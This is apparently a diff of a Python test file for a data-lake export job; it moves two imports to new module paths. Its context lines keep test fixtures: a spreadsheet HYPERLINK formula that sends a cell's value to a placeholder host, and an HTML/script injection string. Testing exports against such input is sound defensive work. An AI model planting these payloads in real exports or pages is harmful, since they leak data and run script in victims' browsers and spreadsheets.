@@ -16,10 +16,10 @@ import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
 
-from jobs.exports import export_day
+from jobs.publish.day import export_day
 from schemas.lake import RAW
 from tests.outputs_lake import DAY, PEOPLE, build_lake
-from tracelake.rules import load_rules
+from tracelake.core.rules import load_rules
 
 FORMULA = '=HYPERLINK("http://x/?"&C2,"xem")'
 HTML_DISTRICT = "<script>alert(1)</script>\" onmouseover=\"alert('760')\" & Q&amp;"
